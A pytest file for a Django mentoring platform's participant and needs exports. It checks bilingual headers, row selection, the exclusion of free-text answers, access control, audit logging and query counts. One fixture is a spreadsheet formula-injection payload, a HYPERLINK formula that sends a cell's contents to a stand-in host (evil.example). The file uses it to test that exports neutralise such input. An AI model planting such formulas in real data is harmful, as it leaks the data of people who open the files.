"""The participants and needs exports: what they hold, in both languages, neutralised, for
the programme team only, audited, in a fixed number of queries."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation

from rementor.analytics import exports
from rementor.audit.events import Event
from rementor.matching.models import PairStatus
from rementor.programmes.models import EnrollmentStatus, Role
from rementor.selection.models import MentorApplication, MentorDecision
from rementor.skills.models import Skill
from rementor.training.models import TrainingCompletion, TrainingModule
from tests.factories import client_for
from tests.rementor.analytics.factories import (
    FORMULA,
    AssessmentFactory,
    AssessmentItemFactory,
    enrol,
    pair_row,
    read_csv,
    read_xlsx,
)
from tests.rementor.audit.helpers import events, the_event

WISHES = "WISHES-never-exported-4b1d"
MOTIVATION = "MOTIVATION-never-exported-77c2"
HOSTILE = '\u0001=HYPERLINK("http://evil.example/?p="&B2,"Click")'
GIVEN = timezone.make_aware(dt.datetime(2026, 10, 5, 9, 0), dt.UTC)


def _module(programme, audience, *, published=True):
    return TrainingModule.objects.create(
        programme=programme,
        audience=audience,
        title_fr="Module",
        title_en="Module",
        body_fr="x",
        body_en="x",
        is_published=published,
    )


def _baseline(enrollment, answers: dict, *, submitted=GIVEN):
    assessment = AssessmentFactory(enrollment=enrollment, submitted_at=submitted, wishes=WISHES)
    for skill, (level, target, priority) in answers.items():
        AssessmentItemFactory(
            assessment=assessment, skill=skill, level=level, target=target, priority=priority
        )
    return assessment


@pytest.fixture
def skills(programme):
    linkedin, slack = Skill.objects.get(code="linkedin"), Skill.objects.get(code="slack")
    programme.skills.set([linkedin, slack])
    return linkedin, slack


@pytest.fixture
def world(programme, skills):
    """Two mentees (one paired, trained and assessed; one with nothing yet), three mentors
    (approved and paired, application started, no application) and a withdrawn mentee."""
    linkedin, slack = skills
    both = _module(programme, "both")
    for_mentees = _module(programme, "mentee")
    _module(programme, "mentor")
    _module(programme, "mentee", published=False)

    pair = pair_row(
        programme,
        mentee={"first_name": "Anne", "last_name": "Aubry", "department": "Finance"},
        mentor={"first_name": "Marc", "last_name": "Martin", "department": "Ventes"},
    )
    anne, marc = pair.mentee, pair.mentor
    TrainingCompletion.objects.create(module=both, enrollment=anne)
    TrainingCompletion.objects.create(module=for_mentees, enrollment=anne)
    TrainingCompletion.objects.create(module=both, enrollment=marc)
    _baseline(anne, {linkedin: (1, 3, 2), slack: (0, 2, 1)})
    application = MentorApplication.objects.create(
        enrollment=marc, motivation=MOTIVATION, submitted_at=GIVEN, decided_at=GIVEN
    )
    MentorDecision.objects.create(
        application=application, decision="accepted", reason=MOTIVATION, decided_at=GIVEN
    )

    bruno = enrol(programme, Role.MENTEE, first_name="Bruno", last_name="Blanc", department=None)
    # A draft self-assessment is not the needs given.
    _baseline(bruno, {linkedin: (4, 4, 3)}, submitted=None)
    nina = enrol(programme, Role.MENTOR, first_name="Nina", last_name="Noël")
    MentorApplication.objects.create(enrollment=nina, motivation=MOTIVATION)
    enrol(programme, Role.MENTOR, first_name="Omar", last_name="Oudin")
    gone = enrol(
        programme,
        Role.MENTEE,
        status=EnrollmentStatus.WITHDRAWN,
        first_name="Wanda",
        last_name="Partie",
    )
    _baseline(gone, {linkedin: (2, 3, 1)})
    return programme


# --------------------------------------------------------------------------- participants


def test_participants_dataset_in_english(world):
    with translation.override("en"):
        table = exports.participants(programme=world)
    assert table.title == "Participants"
    assert table.header == [
        "Person",
        "Role",
        "Enrolment status",
        "Department",
        "Training modules done",
        "Training modules to do",
        "Needs given on",
        "Mentor application",
        "Pair status",
    ]
    rows = {row[0]: row[1:] for row in table.rows}
    # Mentees first (the role's order), then by name.
    assert [row[0] for row in table.rows] == [
        "Anne Aubry",
        "Bruno Blanc",
        "Wanda Partie",
        "Marc Martin",
        "Nina Noël",
        "Omar Oudin",
    ]
    # Mentees are asked to take the "both" and the mentee module (not the unpublished one).
    assert rows["Anne Aubry"] == [
        "Mentee",
        "Accepted",
        "Finance",
        2,
        2,
        dt.date(2026, 10, 5),
        "",
        "Active",
    ]
    assert rows["Bruno Blanc"] == ["Mentee", "Accepted", "", 0, 2, None, "", "No pair"]
    assert rows["Wanda Partie"][:2] == ["Mentee", "Withdrawn"]
    assert rows["Marc Martin"] == ["Mentor", "Accepted", "Ventes", 1, 2, None, "Approved", "Active"]
    assert rows["Nina Noël"][6:] == ["Started, not submitted", "No pair"]
    assert rows["Omar Oudin"][6:] == ["None", "No pair"]


def test_participants_dataset_in_french(world):
    with translation.override("fr"):
        table = exports.participants(programme=world)
    assert table.header[:3] == ["Personne", "Rôle", "Statut de l’inscription"]
    assert "Besoins exprimés le" in table.header
    rows = {row[0]: row[1:] for row in table.rows}
    assert rows["Anne Aubry"][0] == "Mentoré"
    assert rows["Bruno Blanc"][-1] == "Aucun binôme"
    assert rows["Marc Martin"][-2] == "Retenu"


def test_participants_dataset_shows_the_latest_pair_status(world):
    anne_pair = world.pairs.get()
    anne_pair.status = PairStatus.ENDED
    anne_pair.save()
    with translation.override("en"):
        rows = {row[0]: row for row in exports.participants(programme=world).rows}
    assert rows["Anne Aubry"][-1] == "Ended early"


# --------------------------------------------------------------------------- needs


def test_needs_dataset_has_three_columns_per_skill(world):
    with translation.override("en"):
        table = exports.needs(programme=world)
    assert table.title == "Needs"
    assert table.header == [
        "Mentee",
        "Department",
        "Needs given on",
        "LinkedIn: current level",
        "LinkedIn: target",
        "LinkedIn: priority",
        "Slack & team messaging: current level",
        "Slack & team messaging: target",
        "Slack & team messaging: priority",
    ]
    # The withdrawn mentee is left out; a draft is not the needs given.
    assert table.rows == [
        ["Anne Aubry", "Finance", dt.date(2026, 10, 5), 1, 3, 2, 0, 2, 1],
        ["Bruno Blanc", "", None, None, None, None, None, None, None],
    ]


def test_needs_dataset_headers_in_french(world):
    with translation.override("fr"):
        table = exports.needs(programme=world)
    assert table.title == "Besoins"
    assert table.header[:5] == [
        "Mentoré",
        "Service",
        "Besoins exprimés le",
        "LinkedIn : niveau actuel",
        "LinkedIn : niveau visé",
    ]
    assert table.header[5] == "LinkedIn : priorité"


def test_needs_dataset_keeps_a_skill_answered_but_since_removed_from_the_programme(world, skills):
    linkedin, _slack = skills
    world.skills.set([linkedin])
    with translation.override("en"):
        table = exports.needs(programme=world)
    assert "Slack & team messaging: priority" in table.header


@pytest.mark.parametrize("dataset", ["participants", "needs"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_free_text_in_the_participant_files(world, dataset, fmt):
    result = exports.export(programme=world, fmt=fmt, dataset=dataset)
    text = repr(read_xlsx(result.content)) if fmt == "xlsx" else result.content.decode()
    assert "Anne" in text
    assert WISHES not in text and MOTIVATION not in text


# --------------------------------------------------------------------------- formulas


def _hostile_people(programme, skills):
    linkedin, _slack = skills
    plain = enrol(programme, Role.MENTEE, first_name=FORMULA, last_name="Zoé", department=None)
    hidden = enrol(programme, Role.MENTEE, first_name=HOSTILE, last_name="Yves", department=None)
    for enrollment in (plain, hidden):
        _baseline(enrollment, {linkedin: (1, 2, 1)})


@pytest.mark.parametrize("dataset", ["participants", "needs"])
def test_formula_names_come_out_as_text_in_csv_and_xlsx(manager, programme, skills, dataset):
    _hostile_people(programme, skills)
    client = client_for(manager)
    url = reverse("analytics:export", args=[programme.slug])
    for flavour, delimiter in (("standard", ","), ("excel-fr", ";")):
        response = client.get(url, {"format": "csv", "dataset": dataset, "flavour": flavour})
        assert response.status_code == 200
        names = sorted(row[0] for row in read_csv(response.content, delimiter=delimiter)[1:])
        assert names == sorted(["'" + HOSTILE.lstrip("\u0001") + " Yves", f"'{FORMULA} Zoé"])
        assert "\x01" not in response.content.decode("utf-8-sig")

    response = client.get(url, {"format": "xlsx", "dataset": dataset})
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for ws in workbook for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    hostile = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(hostile) == 2
    assert all(c.data_type == "s" and c.value.startswith("'=HYPERLINK(") for c in hostile)


# --------------------------------------------------------------------------- the pages


@pytest.mark.parametrize("dataset", ["participants", "needs"])
def test_manager_download_is_audited(manager, world, dataset):
    response = client_for(manager).get(
        reverse("analytics:export", args=[world.slug]), {"format": "csv", "dataset": dataset}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"] == (f'attachment; filename="{world.slug}-{dataset}.csv"')
    assert "no-store" in response["Cache-Control"]
    entry = the_event(Event.EXPORT)
    assert entry.actor == manager
    assert entry.additional_data["file"] == f"{world.slug}-{dataset}.csv"


@pytest.mark.parametrize("dataset", ["participants", "needs"])
def test_sponsor_participant_and_outsider_get_no_file(
    sponsor, pair_member, stranger, world, dataset
):
    url = reverse("analytics:export", args=[world.slug])
    for user, status in ((sponsor, 403), (pair_member, 403), (stranger, 404)):
        response = client_for(user).get(url, {"format": "xlsx", "dataset": dataset})
        assert response.status_code == status, user
        # (the full name: a random sponsor may well be called Anne, shown in the menu)
        assert "Anne Aubry" not in response.content.decode(errors="replace")
    assert not events(Event.EXPORT)


@pytest.mark.parametrize(
    ("language", "titles", "sentence"),
    [
        ("en", ("Participants", "Needs"), "Never the wishes they wrote."),
        ("fr", ("Participants", "Besoins"), "Jamais les souhaits qu’ils ont écrits."),
    ],
)
def test_exports_page_links_both_with_what_they_hold(manager, world, language, titles, sentence):
    response = client_for(manager).get(
        reverse("analytics:exports", args=[world.slug]), HTTP_ACCEPT_LANGUAGE=language
    )
    html = response.content.decode()
    for name in ("participants", "needs"):
        for query in ("format=xlsx", "format=csv&amp;flavour=standard"):
            assert f"?dataset={name}&amp;{query}" in html
    for title in titles:
        assert f'<th scope="row">{title}</th>' in html
    assert sentence in html


# --------------------------------------------------------------------------- query counts


def _grow(programme, skills, size: int) -> None:
    """``size`` more of everything a row is made of: paired and trained mentees with needs,
    mentors with decided applications."""
    linkedin, slack = skills
    module = _module(programme, "both")
    for n in range(size):
        pair = pair_row(programme, mentee={"last_name": f"Mentee{n}"})
        TrainingCompletion.objects.create(module=module, enrollment=pair.mentee)
        _baseline(pair.mentee, {linkedin: (1, 3, 2), slack: (0, 1, 1)})
        application = MentorApplication.objects.create(
            enrollment=pair.mentor, motivation="x", submitted_at=GIVEN, decided_at=GIVEN
        )
        MentorDecision.objects.create(
            application=application, decision="declined", decided_at=GIVEN
        )


@pytest.mark.parametrize("dataset", ["participants", "needs"])
@pytest.mark.parametrize("size", [1, 4])
def test_query_count_does_not_grow_with_the_programme(
    programme, skills, dataset, size, django_assert_num_queries
):
    _grow(programme, skills, size)
    with django_assert_num_queries(exports.QUERIES[dataset]):
        table = exports.DATASETS[dataset](programme=programme)
    assert len(table.rows) == size * (2 if dataset == "participants" else 1)


def test_everything_workbook_holds_the_two_new_sheets_first(world):
    with translation.override("en"):
        sheets = read_xlsx(exports.export(programme=world, fmt="xlsx").content)
    assert list(sheets)[:2] == ["Participants", "Needs"]


@pytest.mark.parametrize(
    ("language", "first"), [("en", ["Person", "Role"]), ("fr", ["Personne", "Rôle"])]
)
def test_downloaded_headers_follow_the_readers_language(manager, world, language, first):
    response = client_for(manager).get(
        reverse("analytics:export", args=[world.slug]),
        {"format": "csv", "dataset": "participants"},
        HTTP_ACCEPT_LANGUAGE=language,
    )
    assert read_csv(response.content, delimiter=",")[0][:2] == first
